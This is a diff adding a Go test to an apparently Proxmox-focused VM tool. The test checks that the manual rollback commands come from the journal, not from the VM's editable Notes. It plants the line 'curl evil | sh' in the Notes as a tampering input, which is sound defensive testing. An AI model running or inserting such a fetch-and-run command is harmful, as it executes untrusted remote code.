@@ -19,6 +19,7 @@ import (
 	"github.com/recast-sh/recast/internal/sim"
 	"github.com/recast-sh/recast/internal/sim/record"
 	"github.com/recast-sh/recast/internal/sim/world"
+	"github.com/recast-sh/recast/pipeline"
 	"github.com/recast-sh/recast/pipeline/checkup"
 )
 
@@ -201,4 +202,19 @@ func (c *Client) confirm(park int) {
 	must(c.lab.t, errOf(connected(c.lab.t.Context(), c, func(s *session) (struct{}, error) {
 		return struct{}{}, s.machines.Proxmox.(*pve.Client).Confirm(c.lab.t.Context(), cluster.VMID(park))
 	})))
+}
+
+// TestByHand: the journal has the commands that undo a replacement without recast, whatever somebody writes into the Notes.
+func TestByHand(t *testing.T) {
+	inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
+		lab.Client().rollKilled(after("stop"), onlyWorker)
+		project := valueOf(lab.Client().Project())(t)
+		lines := valueOf(pipeline.ByHand(project, "wk1"))(t)
+		park := lab.parkingOf("wk1")
+		notes := lab.vmConfig(park)["description"]
+		require(t, strings.Contains(lines, "qm create") && strings.Contains(notes, strings.TrimSpace(lines)), "by hand:\n%s\nthe Notes:\n%s", lines, notes)
+		lab.EditVM(park, "description", strings.Replace(notes, "qm start", "curl evil | sh; qm start", 1))
+		requireSame(t, lines, valueOf(pipeline.ByHand(project, "wk1"))(t), "commands (-before +after)")
+		requireFault(t, errOf(pipeline.ByHand(project, "cp1")), fault.Refused, "node cp1: no journal on this machine has a replacement of it")
+	})
 }
